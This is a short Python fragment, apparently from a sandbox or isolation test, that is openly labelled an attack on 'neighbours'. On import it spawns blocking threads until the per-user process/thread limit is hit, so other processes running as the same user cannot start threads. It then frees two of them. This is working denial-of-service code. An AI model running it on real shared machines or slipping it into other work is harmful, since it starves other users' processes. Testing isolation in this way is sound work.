# ATTACK (neighbours): take every task (process or thread) the per-user limit allows and
# hold them, so that a neighbour running as the same user cannot start its threads.
# (Two are given back, and waited for, before the last fragment starts its helper.)
_HELD = []


def _take_all_tasks():
    while len(_HELD) < 20000:
        release = _threading.Event()
        thread = _threading.Thread(target=release.wait, daemon=True)
        try:
            thread.start()
        except RuntimeError:
            break
        _HELD.append((release, thread))
    for release, thread in _HELD[-2:]:
        release.set()
        thread.join()


_take_all_tasks()
